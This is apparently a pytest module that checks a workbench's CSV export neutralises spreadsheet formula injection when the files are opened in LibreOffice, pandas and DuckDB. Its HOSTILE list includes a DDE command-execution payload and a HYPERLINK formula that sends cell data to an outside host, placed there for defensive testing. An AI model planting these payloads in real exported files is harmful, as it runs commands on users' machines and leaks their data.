"""What others read out of the tables, cells that want to be run too: LibreOffice, pandas and DuckDB."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import zipfile
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path
from typing import TYPE_CHECKING, Any
from xml.etree import ElementTree as ET

import pytest

from tests.unit.export.decided import AT, decided_store, undecided_store
from workbench.desk.exporting import export_csv, export_package
from workbench.desk.importing import import_csv
from workbench.desk.tables import Writing
from workbench.export.cells import unescape
from workbench.export.columns import Form
from workbench.export.table_schema import TABLES, VERDICTS, Table
from workbench.model import EntryType, NewEntry
from workbench.store import Store, View, open_store

if TYPE_CHECKING:
    from tests.unit.conftest import Invented

pytestmark = pytest.mark.heavy

HOSTILE = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example?"&A1,"here")', "+1+1", "-2+3", "@SUM(1,2)",
    "\t=1+1", "\r\n=1+1", "\n=1+1", " =1+1", "\u200b=1+1", "\uff1d1+1", "'=1+1", "'", "''", "'\\u0041",
    "0012", "12345678901e2345", "1234567890123456", '"', '";"', "a;b\tc|d,e", "a\r\nb\rc\nd", "NUL \0 here",
    "lone \ud800 \udfff", "\u202eabc", "_x0041_", "x" * 30_000,
)  # fmt: skip
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
COMMAS_UTF8 = "Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false"
DAY_ZERO = date(1899, 12, 30)


@pytest.fixture
def folder(tmp_path: Path, flood: Invented, hostile: Invented) -> Path:
    """A folder with all tables of a store in which every hostile text is a correction and a note."""
    key = (flood.article.article_id, flood.claims[0].claim_id)
    with open_store(decided_store(tmp_path / "my.db", flood, hostile)) as store:
        for number, text in enumerate(HOSTILE):
            disputed: dict[str, object] = {"verdict": "disputed", "correction": text}
            store.append(NewEntry(EntryType.VERDICT, f"{number} {text[:9]}", *key, disputed, AT))
            store.append(NewEntry(EntryType.NOTE, f"{number} {text[:9]}", *key, {"body": f"{text}."}, AT))
        (tmp_path / "out").mkdir()
        export_package(store, View(), tmp_path / "out" / "verdicts.csv")
    return tmp_path / "out"


def rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def converted(folder: Path, form: str, *names: str) -> Path:
    office = shutil.which("soffice")
    if office is None:
        pytest.skip("LibreOffice is not installed")
    to = folder / "converted"
    profile = (folder / "profile").as_uri()
    words = [
        f"-env:UserInstallation={profile}",
        "--headless",
        f"--infilter={COMMAS_UTF8}",
        "--convert-to",
        form,
    ]
    subprocess.run(
        [office, *words, "--outdir", str(to), *(str(folder / name) for name in names)],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    return to


def sheet(path: Path) -> tuple[list[dict[int, tuple[str, str]]], int]:
    """Return the (type, value) of each cell of a workbook by row and column, and how many are formulas."""
    with zipfile.ZipFile(path) as book:
        shared = [
            "".join(part.text or "" for part in item.iter(f"{MAIN}t"))
            for item in ET.fromstring(book.read("xl/sharedStrings.xml"))  # noqa: S314 - LibreOffice wrote it just now
        ]
        lines = list(ET.fromstring(book.read("xl/worksheets/sheet1.xml")).iter(f"{MAIN}row"))  # noqa: S314 - likewise
    found = []
    formulas = 0
    for line in lines:
        cells = {}
        for cell in line.iter(f"{MAIN}c"):
            formulas += cell.find(f"{MAIN}f") is not None
            value = cell.findtext(f"{MAIN}v")
            if value is not None:
                kind = cell.get("t", "n")
                cells[column(cell.get("r", ""))] = (kind, plain(shared[int(value)]) if kind == "s" else value)
        found.append(cells)
    return found, formulas


def column(reference: str) -> int:
    """Return the number of a column, from 0, of a cell's name such as AB12."""
    number = 0
    for letter in reference.rstrip("0123456789"):
        number = number * 26 + ord(letter) - ord("A") + 1
    return number - 1


def plain(text: str) -> str:
    """Take back how a workbook writes what XML cannot hold (ECMA-376, 22.9.2.19)."""
    return re.sub(r"_x([0-9A-F]{4})_", lambda found: chr(int(found[1], 16)), text)


def test_libreoffice_shows_every_cell_as_it_went_out_and_runs_none(folder: Path) -> None:
    with open_store(folder.parent / "my.db") as store:
        export_csv(store, View(), folder / "raw.csv", writing=Writing(raw=True))
    to = converted(folder, "xlsx", "verdicts.csv", "evidence.csv", "ledger.csv", "raw.csv")
    assert sheet(to / "raw.xlsx")[1] > 3  # it would run what is not guarded
    for table in TABLES.values():
        shown, formulas = sheet(to / f"{table.name}.xlsx")
        wanted = rows(folder / f"{table.name}.csv")
        assert formulas == 0
        assert len(shown) == len(wanted) > 4
        forms = [column.form for column in table.columns]
        for line, cells in zip(wanted[1:], shown[1:], strict=True):
            for place, (text, form) in enumerate(zip(line, forms, strict=True)):
                kind, value = cells.get(place, ("s", ""))
                if kind == "s":
                    assert value == text
                elif form is Form.DATE:
                    assert (DAY_ZERO + timedelta(days=int(value))).isoformat() == text
                else:
                    assert Decimal(value) == Decimal(text)


def test_what_libreoffice_saved_again_comes_back_whole(
    folder: Path, tmp_path: Path, flood: Invented, hostile: Invented
) -> None:
    to = converted(folder, f"csv:{COMMAS_UTF8.removesuffix(',false')},false", "verdicts.csv")
    with (
        open_store(tmp_path / "my.db") as first,
        open_store(undecided_store(tmp_path / "new.db", flood, hostile)) as second,
    ):
        import_csv(second, to / "verdicts.csv", "Importer")
        for invented in (flood, hostile):
            for claim in invented.claims:
                key = (invented.article.article_id, claim.claim_id)
                assert second.verdicts(*key) == first.verdicts(*key)
                assert [(note.at, note.reviewer, note.body) for note in second.notes(*key)] == sorted(
                    (note.at, note.reviewer, note.body) for note in first.notes(*key)
                )


def texts(store: Store, table: Table) -> list[list[str]]:
    """Return the cells of a table as a program reads them: raw, nothing guarded."""
    file = io.StringIO(newline="")
    export_csv(store, View(), file, writing=Writing(table, raw=True, bom=False))
    return list(csv.reader(io.StringIO(file.getvalue(), newline="")))


@pytest.mark.parametrize("table", TABLES.values(), ids=TABLES)
def test_pandas_reads_every_cell(folder: Path, table: Table) -> None:
    pandas: Any = pytest.importorskip("pandas", reason="pandas is not installed (interchange)")
    frame = pandas.read_csv(folder / f"{table.name}.csv", dtype=str, keep_default_na=False)
    header, *lines = rows(folder / f"{table.name}.csv")
    assert list(frame.columns) == header
    assert frame.to_numpy().tolist() == lines
    if table is VERDICTS:
        read = {unescape(cell) for cell in frame["correction"]}
        assert read >= set(HOSTILE)


@pytest.mark.parametrize("table", TABLES.values(), ids=TABLES)
def test_duckdb_reads_every_cell(folder: Path, table: Table) -> None:
    duckdb: Any = pytest.importorskip("duckdb", reason="DuckDB is not installed (interchange)")
    path = folder / f"{table.name}.csv"
    # What a cell holds it cannot guess from a sample: long ones and line ends come late.
    found = duckdb.sql(
        f"SELECT * FROM read_csv('{path}', header = true, all_varchar = true, quote = '\"', escape = '\"', "
        "delim = ',', new_line = '\\r\\n', max_line_size = 10000000)"
    )
    header, *lines = rows(path)
    assert found.columns == header
    assert [[cell or "" for cell in line] for line in found.fetchall()] == lines


@pytest.mark.parametrize("table", TABLES.values(), ids=TABLES)
def test_raw_cells_are_the_same_texts(folder: Path, tmp_path: Path, table: Table) -> None:
    with open_store(tmp_path / "my.db") as store:
        raw = texts(store, table)
    schema = table.names.index("schema_version")
    for guarded, line in zip(rows(folder / f"{table.name}.csv")[1:], raw[1:], strict=True):
        for place, (cell, text) in enumerate(zip(guarded, line, strict=True)):
            if place != schema:
                assert unescape(cell) == unescape(text if text.startswith("'\\") else f"'{text}")
